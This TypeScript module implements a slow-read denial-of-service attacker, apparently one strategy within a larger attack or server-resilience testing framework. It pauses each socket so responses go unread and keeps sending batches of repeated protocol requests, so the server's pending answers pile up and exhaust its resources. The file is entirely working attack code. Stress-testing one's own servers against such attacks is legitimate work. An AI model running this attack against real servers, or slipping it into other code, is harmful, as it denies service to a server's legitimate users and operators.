import type { Socket } from 'node:net';
import type { Attacker } from '../attacker.js';

/** Of each connection, as long as the server takes it. No flood: what hurts are the answers, which pile up. */
const BATCH_BYTES = 4 << 10;
const PERIOD_MS = 250;

export const slowRead: Attacker = {
  async play(field) {
    const { preamble, request } = field.dialect;
    const batch = Buffer.concat(Array.from({ length: Math.ceil(BATCH_BYTES / request.length) }, () => request));
    const ask = (socket: Socket) => {
      if (socket.writableLength === 0) field.send(socket, batch);
    };
    const timer = setInterval(() => {
      for (const socket of field.open) ask(socket);
    }, PERIOD_MS);
    try {
      await field.hold((socket) => {
        socket.pause();
        field.send(socket, preamble);
        field.send(socket, batch);
      }, false);
    } finally {
      clearInterval(timer);
    }
  },
};
